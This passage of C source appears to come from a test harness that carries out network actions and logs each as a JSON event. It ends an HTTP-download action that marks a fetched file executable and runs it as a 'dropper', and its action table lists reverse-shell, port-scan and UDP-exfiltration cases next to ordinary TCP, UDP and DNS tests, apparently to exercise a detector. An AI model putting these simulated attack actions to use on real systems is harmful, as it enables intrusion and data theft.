	if (chmod(path, 0755) != 0)
		die(1, "chmod %s: %s", path, strerror(errno));
	run = run_dropper(path);
	j_begin("net-http-download");
	j_num("pid", getpid());
	j_num("server_port", port);
	j_num("client_pid", client);
	j_str("tool", tool);
	j_str("path", path);
	j_num("exec_pid", run);
	j_str("workdir", workdir()); /* as every action that uses one */
}

/* ------------------------------------------------------------------------ */
/* The family's table, NULL-terminated; listed in nj_actions.c.              */

const struct action net_actions[] = {
	{"net-tcp4", act_tcp4},
	{"net-tcp6", act_tcp6},
	{"net-tcp-mapped", act_tcp_mapped},
	{"net-refused", act_refused},
	{"net-nonblock", act_nonblock},
	{"net-nonblock-refused", act_nonblock_refused},
	{"net-udp4", act_udp4},
	{"net-udp4-connected", act_udp4_connected},
	{"net-udp-write", act_udp_write},
	{"net-udp6", act_udp6},
	{"net-udp-msg", act_udp_msg},
	{"net-udp-again", act_udp_again},
	{"net-dns", act_dns},
	{"net-dns-unconnected", act_dns_unconnected},
	{"net-dns-malformed", act_dns_malformed},
	{"net-dns-veth", act_dns_veth},
	{"net-dns-mmsg", act_dns_mmsg},
	{"net-dns-rw", act_dns_rw},
	{"net-dns-tcp", act_dns_tcp},
	{"net-dns-tcp-one", act_dns_tcp_one},
	{"net-dns-tcp-pieces", act_dns_tcp_pieces},
	{"net-dns-tcp-pair", act_dns_tcp_pair},
	{"net-udp-mmsg-long", act_udp_mmsg_long},
	{"net-revshell", act_revshell},
	{"net-portscan", act_portscan},
	{"net-udp-exfil", act_udp_exfil},
	{"net-http-download", act_http_download},
	{"net-accept-waiting", act_accept_waiting},
	{NULL, NULL},
};
